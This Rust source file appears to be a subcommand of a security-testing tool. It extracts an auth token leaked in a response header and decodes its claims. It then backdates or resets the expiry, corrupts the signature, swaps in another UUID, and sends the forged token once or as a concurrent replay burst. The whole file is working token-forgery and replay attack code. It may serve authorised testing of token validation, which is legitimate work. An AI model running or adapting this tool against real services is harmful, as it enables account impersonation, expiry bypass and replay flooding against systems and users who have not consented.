use feint_core::probe::{ProbeClient, ProbeConfig, TOKEN_HEADER};
use feint_core::tamper::{self, TamperPlan};

use crate::cli::args::TokenArgs;
use crate::exit_codes;

pub async fn run(args: TokenArgs) -> anyhow::Result<i32> {
    let probe = match ProbeClient::new(ProbeConfig {
        url: args.url.clone(),
        origin: args.origin.clone(),
        referer: args.referer.clone(),
        email: args.email.clone(),
        timeout_secs: args.timeout,
    }) {
        Ok(probe) => probe,
        Err(e) => {
            eprintln!("[!] {e}");
            return Ok(exit_codes::FAILURE);
        }
    };

    // 1) Acquire a token from the leaking response header.
    println!("[*] Extracting token...");
    let acquisition = match probe.acquire().await {
        Ok(acquisition) => acquisition,
        Err(e) => {
            eprintln!("[!] {e}");
            return Ok(exit_codes::FAILURE);
        }
    };
    if args.verbose {
        println!("[debug] Response headers:");
        for (name, value) in acquisition.headers.iter() {
            println!("  {}: {}", name, value.to_str().unwrap_or("<binary>"));
        }
    }
    let Some(token) = acquisition.token else {
        eprintln!("[-] Token not retrieved (no {TOKEN_HEADER} header).");
        return Ok(exit_codes::FAILURE);
    };
    println!("[+] Got token: {token}");

    // 2) Decode.
    let mut claims = match tamper::decode_token(&token) {
        Ok(claims) => claims,
        Err(e) => {
            eprintln!("[-] Decode failed: {e}");
            return Ok(exit_codes::FAILURE);
        }
    };
    println!("[+] Token JSON:");
    println!("{}", serde_json::to_string_pretty(&claims)?);

    // 3) Mutate.
    let plan = TamperPlan {
        expire_back: args.expire_back,
        custom_expires: args.custom_expires,
        corrupt_sign: args.tamper_sign,
        uuid: args.uuid.clone(),
    };
    if plan.expire_back {
        println!("[*] Expiry set to past.");
    } else if let Some(epoch) = plan.custom_expires {
        println!("[*] Expiry set to custom: {epoch}");
    }
    if plan.corrupt_sign {
        println!("[*] Signature tampered.");
    }
    if let Some(uuid) = &plan.uuid {
        println!("[*] Overriding UUID → {uuid}");
    }
    plan.apply(&mut claims);

    // 4) Re-encode.
    let tampered = match tamper::encode_token(&claims) {
        Ok(tampered) => tampered,
        Err(e) => {
            eprintln!("[-] Encode failed: {e}");
            return Ok(exit_codes::FAILURE);
        }
    };

    // 5) Dispatch, once or as a concurrent replay burst.
    match args.replay {
        Some(count) if count > 0 => {
            println!("[*] Replaying token {count} times...");
            probe.replay(&tampered, count).await;
        }
        _ => {
            println!("[*] Sending once...");
            match probe.send(&tampered).await {
                Ok(outcome) => {
                    println!("[+] Status: {}", outcome.status);
                    if args.verbose {
                        let preview: String = outcome.body.chars().take(300).collect();
                        println!("{preview}");
                    }
                }
                Err(e) => {
                    eprintln!("[!] Request failed: {e}");
                    return Ok(exit_codes::FAILURE);
                }
            }
        }
    }

    Ok(exit_codes::SUCCESS)
}
